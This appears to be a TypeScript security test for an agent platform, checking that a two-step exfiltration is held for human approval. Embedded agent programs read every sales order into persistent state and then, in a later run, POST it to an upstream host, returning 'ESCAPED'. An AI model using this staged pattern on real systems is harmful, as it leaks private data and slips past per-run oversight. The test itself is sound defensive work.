/*
 * I11 Keeps private rows in its state, and has a later run send them on
 * wall: flow
 * covers: I09
 * ends: held
 */
import { randomUUID } from "node:crypto";
import { Run } from "../../../../contract/runs.ts";
import { pollUntil } from "../../../platform/start-platform.ts";
import type { Scene } from "../../scene.ts";

export const attack = async (scene: Scene): Promise<void> => {
	const mark = randomUUID();
	const keeper = await scene.api.run({
		agent: "hostile",
		grants: ["sales", "state"],
		language: "javascript",
		program: `export default async (input, env) => { const rows = await env.sales.query("select * from orders"); await env.state.put("hostile/${mark}", rows); return 1; }`,
	});
	if (keeper.status !== "succeeded") throw new Error(`Keeping the rows: found ${keeper.error?.message}, wanted it to succeed`);
	const sender = await scene.api.run({
		agent: "hostile",
		grants: ["state", "web"],
		language: "javascript",
		wait: 0,
		program: `export default async (input, env) => { const rows = await env.state.get("hostile/${mark}"); await env.web.fetch("http://${scene.upstream.host}/later/${mark}", { method: "POST", body: JSON.stringify(rows) }); return "ESCAPED"; }`,
	});
	const read = () => scene.api.expect(200, Run, "GET", `/v1/runs/${sender.id}`);
	const run = await pollUntil(read, ({ status, endedAtMs }) => status === "waiting_approval" || endedAtMs !== null, 60_000);
	await scene.api.request("POST", `/v1/runs/${sender.id}/cancel`);
	const sent = scene.upstream.arrived.filter(({ url }) => url.includes(mark)).length;
	if (run.status !== "waiting_approval" || sent > 0)
		throw new Error(`Sending what was kept: found ${run.status} and ${sent} requests, wanted a person asked and none`);
};
